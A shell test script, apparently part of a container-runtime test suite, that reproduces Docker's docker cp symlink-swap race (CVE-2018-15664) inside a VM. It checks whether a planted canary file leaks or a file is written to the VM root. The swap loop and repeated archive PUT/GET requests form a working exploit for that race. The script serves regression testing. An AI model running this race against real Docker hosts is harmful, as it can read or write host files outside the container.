# docker cp's symlink-swap race (CVE-2018-15664) in the running machine
# "$machine", with DOCKER_HOST set to its docker.sock and busybox loaded.
# Sourced by cp_race_vm.sh and included by tests/containers_vm.rs, after
# machine_diagnostics.sh. The
# container sleeps 200 us between swaps: a loop without pauses on the
# machine's vCPUs made the nested TCG outer VM stop without a status (twice,
# 2026-12-01).
# The container swaps d/ for a symlink to / over and over while $rounds
# rounds (default 300; cp_race_vm.sh runs 1,000) of PUT into /d and GET of
# d/berth-canary go through the machine's docker.sock (one curl process,
# many requests). The suite runs 300: the 1,000-round race runs in process
# mode (guest-agent/tests/docker_cp_race.rs), and in the nested test bed
# the race's load was where the outer VM was lost or the machine ended (2
# of about 7 runs, 2026-12-01; 1,000 rounds passed by hand at 694 landed
# PUTs with the engine at 11.4 -> 12.0 MB RSS, 16 -> 17 fds).
rounds=${rounds:-300}
berth machine shell "$machine" -- sh -c 'echo vm-secret > /berth-canary'
boot=$(berth machine shell "$machine" -- cat /proc/sys/kernel/random/boot_id)
engine_mem() { berth machine shell "$machine" -- sh -c 'echo "engine $(grep VmRSS /proc/1/status | tr -s " \t" " ") fds $(ls /proc/1/fd | wc -l), vm $(grep MemAvailable /proc/meminfo | tr -s " " " ")"'; }
echo "race before: $(engine_mem)"
docker run -d --name race busybox sh -c 'mkdir /d && echo in > /d/inside && cd / && while :; do mv d d.x; ln -s / d; usleep 200; rm d; mv d.x d; usleep 200; done' >/dev/null
mkdir -p /tmp/race/put && echo put > /tmp/race/put/race-put-file && tar -C /tmp/race/put -cf /tmp/race/put.tar race-put-file
sock=${DOCKER_HOST#unix://}
for i in $(seq 1 "$rounds"); do
  echo "unix-socket = \"$sock\""; echo 'request = "PUT"'; echo 'data-binary = "@/tmp/race/put.tar"'
  echo 'url = "http://x/containers/race/archive?path=/d"'; echo 'output = "/dev/null"'; echo 'write-out = "put %{http_code}\n"'; echo next
  echo "unix-socket = \"$sock\""; echo 'url = "http://x/containers/race/archive?path=/d/berth-canary"'
  echo "output = \"/tmp/race/get$i\""; echo 'write-out = "get %{http_code}\n"'; echo next
done | sed '$d' > /tmp/race/curl.cfg
curl -s -K /tmp/race/curl.cfg > /tmp/race/codes || true
echo "race puts into d/: $(grep -c '^put 200' /tmp/race/codes) of $rounds"
echo "race gets: $(grep -c '^get ' /tmp/race/codes)"
echo "race leaked reads: $(cat /tmp/race/get* | grep -c vm-secret || true)"
if [ "$(berth machine shell "$machine" -- cat /proc/sys/kernel/random/boot_id)" != "$boot" ]; then
  # The machine ended during the race and `machine shell` started it again:
  # say why it ended before anything else runs.
  echo "race: THE MACHINE RESTARTED"
  machine_diagnostics
fi
echo "race after: $(engine_mem)"
echo "race canary: $(berth machine shell "$machine" -- cat /berth-canary) vm root: $(berth machine shell "$machine" -- sh -c 'test -e /race-put-file && echo WRITTEN || echo clean')"
docker rm -f race >/dev/null
